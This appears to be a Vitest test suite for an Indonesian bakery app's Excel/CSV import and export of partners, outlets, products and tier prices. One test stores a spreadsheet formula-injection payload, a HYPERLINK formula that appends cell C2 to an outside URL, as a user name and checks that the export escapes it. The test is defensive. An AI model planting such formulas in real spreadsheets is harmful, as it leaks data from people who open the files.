import ExcelJS from 'exceljs';
import { and, count, eq, inArray } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { t } from '../../i18n/id';
import { withTestApi, uniqueName, expectOk, expectRefused, type ApiAnswer, type SignedIn } from '../../testing/api';
import { API_PREFIX } from '../app';
import { users } from '../db/schema/accounts';
import { productPrices, productUnits, products } from '../db/schema/catalog';
import { branchGroups, outlets } from '../db/schema/outlets';
import { PARTNER_COLUMNS } from '../imports/partners';
import { insertProduct } from '../../testing/fixtures';

let tierA: string;
let tierB: string;
const hd = t.import.headers;
const PARTNER_HEADERS = PARTNER_COLUMNS.map((c) => c.header);

async function xlsx(headers: string[], rows: (string | number)[][]) {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Data');
  sheet.addRow(headers);
  for (const row of rows) sheet.addRow(row);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- answers are checked field by field below
async function preview(who: SignedIn, kind: string, bytes: Uint8Array, name = 'data.xlsx'): Promise<ApiAnswer<any>> {
  const body = new FormData();
  body.append('kind', kind);
  body.append('file', new File([new Uint8Array(bytes)], name));
  const res = await h.api.request(`${API_PREFIX}/import/preview`, {
    method: 'POST',
    headers: { authorization: `Bearer ${who.token}` },
    body,
  });
  return { status: res.status, body: await res.json(), headers: res.headers };
}

async function download(who: SignedIn, path: string) {
  const res = await h.print.request(`/print${path}`, { headers: { authorization: `Bearer ${who.token}` } });
  return { status: res.status, headers: res.headers, bytes: new Uint8Array(await res.arrayBuffer()) };
}

async function sheetRows(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const rows: string[][] = [];
  workbook.worksheets[0].eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
  return rows;
}

/** 50 outlets of 25 partners (two each), as a bakery's own list would hold them. */
function partnerRows(prefix: string) {
  return Array.from({ length: 50 }, (_, i) => {
    const p = Math.floor(i / 2);
    return [
      `Mitra ${prefix} ${p}`,
      `${prefix}${p}`,
      `0812-3456-${String(p).padStart(4, '0')}`,
      `${prefix}${p}@contoh.id`,
      `Outlet ${prefix} ${i}`,
      `0227${String(100000 + i)}`,
      `Jl. Merdeka No. ${i + 1}`,
      'Citarum',
      'Bandung Wetan',
      'Kota Bandung',
      'Jawa Barat',
      '40115',
      i % 3 === 0 ? tierB : tierA,
    ];
  });
}

const { h, admin, production } = withTestApi({ admin: 'admin', production: 'production' });
beforeAll(async () => {
  tierA = uniqueName('Reguler ');
  tierB = uniqueName('Grosir ');
  await h.db.insert(branchGroups).values([{ name: tierA }, { name: tierB }]);
});

describe('partners and outlets', () => {
  const prefix = uniqueName('imp');

  it('offers a template with the columns and a help sheet', async () => {
    const res = await download(admin, '/export-template?kind=partners');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="impor-partners.xlsx"');
    expect(await sheetRows(res.bytes)).toEqual([PARTNER_HEADERS]);
    expect((await download(production, '/export-template?kind=partners')).status).toBe(403);
  });

  it('previews 50 outlets with two bad rows, names each problem by row and column, and commits nothing', async () => {
    const rows = partnerRows(prefix);
    rows[6][12] = 'Kelompok Hilang';
    rows[6][2] = '12-ab';
    rows[31][6] = '';
    const previewed = expectOk(await preview(admin, 'partners', await xlsx(PARTNER_HEADERS, rows)));
    expect(previewed).toMatchObject({ total: 50, problems: 2, create: 48 });
    const bad = previewed.rows.filter((r: { errors: object }) => Object.keys(r.errors).length);
    expect(bad).toEqual([
      expect.objectContaining({ row: 8, errors: { [hd.phoneNumber]: t.import.phoneInvalid } }),
      expect.objectContaining({ row: 33, errors: { [hd.address]: t.import.required } }),
    ]);
    const commit = await admin.call('POST', '/import/commit', { importId: previewed.importId });
    expectRefused(commit, 422, t.import.stillHasErrors);
    const [{ n }] = await h.db
      .select({ n: count() })
      .from(users)
      .where(eq(users.username, `${prefix}0`));
    expect(n).toBe(0);

    // The phone error hid the tier check of the same row until the phone is fixed.
    rows[6][2] = '0812 3456 0003';
    const again = await preview(admin, 'partners', await xlsx(PARTNER_HEADERS, rows));
    expect(again.body.data.rows[6].errors).toEqual({ [hd.tier]: t.import.unknownTier('Kelompok Hilang') });

    // Two new partners of the file with one email: the second is refused, as the form would.
    const twins = partnerRows(`${prefix}k`).slice(0, 4);
    twins[2][3] = twins[0][3];
    const shared = expectOk(await preview(admin, 'partners', await xlsx(PARTNER_HEADERS, twins)));
    expect(shared.rows.map((r: { errors: object }) => r.errors)).toEqual([
      {},
      {},
      { [hd.email]: t.import.emailTaken },
      {},
    ]);
  });

  it('commits the fixed file in one go, gives new partners one-time passwords, and a second import changes nothing', async () => {
    const bytes = await xlsx(PARTNER_HEADERS, partnerRows(prefix));
    const res = await preview(admin, 'partners', bytes);
    expect(res.body.data).toMatchObject({ total: 50, problems: 0, create: 50, update: 0, unchanged: 0 });
    const commit = expectOk(await admin.call('POST', '/import/commit', { importId: res.body.data.importId }));
    expect(commit).toMatchObject({ created: 75, updated: 0 });
    expect(commit.accounts).toHaveLength(25);
    const first = commit.accounts[0];
    expect(await h.login(first.username, first.password)).toEqual(expect.any(String));
    const [partner] = await h.db
      .select()
      .from(users)
      .where(eq(users.username, `${prefix}0`));
    expect(partner).toMatchObject({ phoneNumber: '081234560000', email: `${prefix}0@contoh.id`, isNew: true });
    const own = await h.db.select().from(outlets).where(eq(outlets.ownerId, partner.id));
    expect(own.map((o) => o.title).sort()).toEqual([`Outlet ${prefix} 0`, `Outlet ${prefix} 1`]);

    const twice = await admin.call('POST', '/import/commit', { importId: res.body.data.importId });
    expectRefused(twice, 409);
    const reimport = await preview(admin, 'partners', bytes);
    expect(reimport.body.data).toMatchObject({ total: 50, problems: 0, create: 0, update: 0, unchanged: 50 });
    const none = expectOk(await admin.call('POST', '/import/commit', { importId: reimport.body.data.importId }));
    expect(none).toMatchObject({ created: 0, updated: 0, unchanged: 50, accounts: [] });
  });

  it('exports the same columns, and importing the export changes nothing', async () => {
    const res = await download(admin, '/export-data?kind=partners');
    expect(res.status).toBe(200);
    const back = await preview(admin, 'partners', res.bytes);
    const mine = expectOk(back).rows.filter((r: { label: string }) => r.label.startsWith(prefix));
    expect(mine).toHaveLength(50);
    expect(mine.every((r: { action: string }) => r.action === 'unchanged')).toBe(true);
  });

  it('exports a name that looks like a formula as text, and imports it back as it was', async () => {
    const formula = '=HYPERLINK("https://contoh.id/?"&C2,"Lihat")';
    await h.db
      .update(users)
      .set({ name: formula })
      .where(eq(users.username, `${prefix}1`));
    const res = await download(admin, '/export-data?kind=partners');
    const rows = await sheetRows(res.bytes);
    expect(rows.find((r) => r[1] === `${prefix}1`)?.[0]).toBe(`'${formula}`);
    const back = expectOk(await preview(admin, 'partners', res.bytes));
    const mine = back.rows.filter((r: { label: string }) => r.label.startsWith(prefix));
    expect(mine.every((r: { action: string }) => r.action === 'unchanged')).toBe(true);
  });

  it('reads a semicolon CSV as Excel writes it, keeping leading zeros, and updates what changed', async () => {
    const header = PARTNER_HEADERS.join(';');
    const line = [
      `Mitra ${prefix} 0`,
      `${prefix}0`,
      '081234560000',
      `${prefix}0@contoh.id`,
      `Outlet ${prefix} 0`,
      '0227100000',
      'Jl. Merdeka No. 100',
      'Citarum',
      'Bandung Wetan',
      'Kota Bandung',
      'Jawa Barat',
      '40115',
      tierB,
    ].join(';');
    const previewed = expectOk(
      await preview(admin, 'partners', new TextEncoder().encode(`\uFEFF${header}\r\n${line}\r\n`), 'a.csv'),
    );
    expect(previewed).toMatchObject({ total: 1, problems: 0, update: 1 });
    expectOk(await admin.call('POST', '/import/commit', { importId: previewed.importId }));
    const [outlet] = await h.db
      .select()
      .from(outlets)
      .where(eq(outlets.title, `Outlet ${prefix} 0`));
    expect(outlet).toMatchObject({ address: 'Jl. Merdeka No. 100', phoneNumber: '0227100000' });
  });

  it('keeps what a left-out column holds on existing partners and outlets, and says which columns', async () => {
    const leftOut: string[] = [hd.email, hd.village, hd.postalCode];
    const headers = PARTNER_HEADERS.filter((x) => !leftOut.includes(x));
    const row = (values: string[]) => values.filter((_, i) => !leftOut.includes(PARTNER_HEADERS[i]));
    const [existing, newcomer] = [partnerRows(prefix)[2], partnerRows(`${prefix}n`)[0]];
    existing[6] = 'Jl. Asia Afrika No. 8';
    const previewed = expectOk(await preview(admin, 'partners', await xlsx(headers, [row(existing), row(newcomer)])));
    expect(previewed).toMatchObject({ problems: 0, create: 1, update: 1, keptColumns: leftOut });
    expectOk(await admin.call('POST', '/import/commit', { importId: previewed.importId }));
    const [partner] = await h.db
      .select()
      .from(users)
      .where(eq(users.username, `${prefix}1`));
    expect(partner.email).toBe(`${prefix}1@contoh.id`);
    const [outlet] = await h.db
      .select()
      .from(outlets)
      .where(eq(outlets.title, `Outlet ${prefix} 2`));
    expect(outlet).toMatchObject({ address: 'Jl. Asia Afrika No. 8', village: 'Citarum', postalCode: '40115' });
    // A new outlet has nothing to keep: the columns it lacks stay empty.
    const [created] = await h.db
      .select()
      .from(outlets)
      .where(eq(outlets.title, `Outlet ${prefix}n 0`));
    expect(created).toMatchObject({ village: null, postalCode: null });
  });

  it('is for owner and finance only', async () => {
    const res = await preview(production, 'partners', await xlsx(PARTNER_HEADERS, partnerRows('x')));
    expectRefused(res, 403);
  });
});

describe('products and prices', () => {
  const PRODUCT_HEADERS = [hd.code, hd.productTitle, hd.type, hd.unit, hd.minOrder, hd.quota, hd.sizes, hd.hasLabel];

  it('imports products by code and then their tier prices in Indonesian figures', async () => {
    const goodProducts = [
      ['9101', 'Roti Impor Sobek', 'Bahan Jadi', 'pcs', '5', '', 'S, M', 'Ya'],
      ['9102', 'Tepung Impor', 'bahan_baku', 'kg', '', '', '', 'Tidak'],
    ];
    const res = await preview(
      admin,
      'products',
      await xlsx(PRODUCT_HEADERS, [
        ...goodProducts,
        ['9102', 'Tepung Kembar', 'bahan_baku', 'kg', '', '', '', ''],
        ['9103', 'Roti Satuan Aneh', 'Bahan Jadi', 'karung', '2,5', '', '', 'mungkin'],
      ]),
    );
    expect(expectOk(res).rows.map((r: { errors: object }) => r.errors)).toEqual([
      {},
      {},
      { [hd.code]: t.import.codeTwice },
      { [hd.minOrder]: t.import.wholeNumber, [hd.hasLabel]: t.import.flagInvalid },
    ]);
    const fixed = await preview(admin, 'products', await xlsx(PRODUCT_HEADERS, goodProducts));
    expectOk(await admin.call('POST', '/import/commit', { importId: fixed.body.data.importId }));
    const [bread] = await h.db.select().from(products).where(eq(products.id, '9101'));
    expect(bread).toMatchObject({ title: 'Roti Impor Sobek', minOrder: 5, sizes: ['S', 'M'], hasLabel: true });

    const priceHeaders = [hd.code, hd.productTitle, tierA, tierB];
    const goodPrices = [
      ['9101', 'Roti Impor Sobek', 'Rp 4.500', '4250'],
      ['9102', 'Tepung Impor', '', '12500'],
    ];
    const prices = await preview(
      admin,
      'prices',
      await xlsx(priceHeaders, [...goodPrices, ['9999', 'Tidak Ada', '1000', '']]),
    );
    expect(prices.body.data.rows.map((r: { errors: object }) => r.errors)).toEqual([
      {},
      {},
      { [hd.code]: t.import.unknownCode('9999') },
    ]);
    const good = await preview(admin, 'prices', await xlsx(priceHeaders, goodPrices));
    expectOk(await admin.call('POST', '/import/commit', { importId: good.body.data.importId }));
    const stored = await h.db
      .select({ productId: productPrices.productId, tier: branchGroups.name, price: productPrices.price })
      .from(productPrices)
      .innerJoin(branchGroups, eq(branchGroups.id, productPrices.branchGroupId))
      .where(inArray(productPrices.productId, ['9101', '9102']))
      .orderBy(productPrices.productId, branchGroups.name);
    expect(stored).toEqual(
      expect.arrayContaining([
        { productId: '9101', tier: tierA, price: 4500 },
        { productId: '9101', tier: tierB, price: 4250 },
        { productId: '9102', tier: tierB, price: 12500 },
      ]),
    );
    expect(stored).toHaveLength(3);
    // Each product's Riwayat names the tiers its imported prices changed.
    const history = expectOk(await admin.call('GET', '/audit?entity=product&entityId=9101'));
    expect(history.items[0].lines).toEqual(
      expect.arrayContaining([
        t.audit.change(t.audit.priceOf(tierA), t.audit.none, 'Rp4.500'),
        t.audit.change(t.audit.priceOf(tierB), t.audit.none, 'Rp4.250'),
      ]),
    );
  });

  it('keeps the quota, sizes and label of a product whose file leaves those columns out', async () => {
    await insertProduct(h.db, { id: '9301', title: 'Roti Kolom', type: 'bahan_jadi', unit: 'pcs' });
    await h.db
      .update(products)
      .set({ minOrder: 3, quota: 40, sizes: ['S', 'M'], hasLabel: true })
      .where(eq(products.id, '9301'));
    const headers = [hd.code, hd.productTitle, hd.type, hd.unit];
    const previewed = expectOk(
      await preview(admin, 'products', await xlsx(headers, [['9301', 'Roti Kolom Baru', 'Bahan Jadi', 'pcs']])),
    );
    expect(previewed).toMatchObject({
      problems: 0,
      update: 1,
      keptColumns: [hd.minOrder, hd.quota, hd.sizes, hd.hasLabel],
    });
    expectOk(await admin.call('POST', '/import/commit', { importId: previewed.importId }));
    const [bread] = await h.db.select().from(products).where(eq(products.id, '9301'));
    expect(bread).toMatchObject({
      title: 'Roti Kolom Baru',
      minOrder: 3,
      quota: 40,
      sizes: ['S', 'M'],
      hasLabel: true,
    });
    // An empty cell in a column that is there clears it, as typed.
    const cleared = expectOk(
      await preview(
        admin,
        'products',
        await xlsx([...headers, hd.quota], [['9301', 'Roti Kolom Baru', 'Bahan Jadi', 'pcs', '']]),
      ),
    );
    expectOk(await admin.call('POST', '/import/commit', { importId: cleared.importId }));
    const [after] = await h.db.select().from(products).where(eq(products.id, '9301'));
    expect(after).toMatchObject({ quota: null, sizes: ['S', 'M'] });
  });

  it('keeps the unit and type of a product with stock, as the form does', async () => {
    await insertProduct(h.db, { id: '9201', title: 'Gula Impor', type: 'bahan_baku', unit: 'kg', stock: 25 });
    const res = await preview(
      admin,
      'products',
      await xlsx(PRODUCT_HEADERS, [['9201', 'Gula Impor', 'bahan_baku', 'gram', '', '', '', '']]),
    );
    expect(expectOk(res).rows.map((r: { errors: object }) => r.errors)).toEqual([{ [hd.unit]: t.product.unitLocked }]);
    const [sugar] = await h.db.select().from(products).where(eq(products.id, '9201'));
    const [kg] = await h.db.select().from(productUnits).where(eq(productUnits.name, 'kg'));
    expect(sugar.productUnitId).toBe(kg.id);

    // Sizes the product form would refuse: none where one must be picked, or without its default size.
    await insertProduct(h.db, { id: '9202', title: 'Bolu Impor', type: 'bahan_jadi', unit: 'pcs', sizes: ['S', 'M'] });
    await h.db.update(products).set({ sizeRequired: true, defaultSize: 'S' }).where(eq(products.id, '9202'));
    const sized = await preview(
      admin,
      'products',
      await xlsx(PRODUCT_HEADERS, [
        ['9202', 'Bolu Impor', 'Bahan Jadi', 'pcs', '', '', '', ''],
        ['9202', 'Bolu Impor', 'Bahan Jadi', 'pcs', '', '', 'M, L', ''],
      ]),
    );
    expect(expectOk(sized).rows.map((r: { errors: object }) => r.errors)).toEqual([
      { [hd.sizes]: t.product.sizesMissing },
      { [hd.code]: t.import.codeTwice },
    ]);
    const noDefault = await preview(
      admin,
      'products',
      await xlsx(PRODUCT_HEADERS, [['9202', 'Bolu Impor', 'Bahan Jadi', 'pcs', '', '', 'M, L', '']]),
    );
    expect(expectOk(noDefault).rows[0].errors).toEqual({ [hd.sizes]: t.import.defaultSizeKept('S') });

    // A new product: each size once, at most ten.
    const many = Array.from({ length: 11 }, (_, i) => `U${i}`).join(', ');
    const fresh = await preview(
      admin,
      'products',
      await xlsx(PRODUCT_HEADERS, [
        ['9203', 'Donat Impor', 'Bahan Jadi', 'pcs', '', '', 'S, S, M', ''],
        ['9204', 'Donat Banyak', 'Bahan Jadi', 'pcs', '', '', many, ''],
      ]),
    );
    expect(expectOk(fresh).rows.map((r: { errors: object }) => r.errors)).toEqual([
      {},
      { [hd.sizes]: t.import.tooManySizes },
    ]);
  });

  it('refuses a price column that is not a tier, and a decimal price', async () => {
    const unknown = await preview(
      admin,
      'prices',
      await xlsx([hd.code, hd.productTitle, 'Harga Lama'], [['9101', 'x', '1']]),
    );
    expect(expectRefused(unknown, 422)).toEqual({ file: t.import.unknownTierColumn('Harga Lama') });

    const decimal = await preview(
      admin,
      'prices',
      await xlsx([hd.code, hd.productTitle, tierA], [['9101', 'x', '4,5']]),
    );
    expect(decimal.body.data.rows[0].errors).toEqual({ [tierA]: t.import.priceInvalid });
    const [price] = await h.db
      .select({ p: productPrices.price })
      .from(productPrices)
      .innerJoin(branchGroups, eq(branchGroups.id, productPrices.branchGroupId))
      .where(and(eq(productPrices.productId, '9101'), eq(branchGroups.name, tierA)));
    expect(price.p).toBe(4500);
  });
});
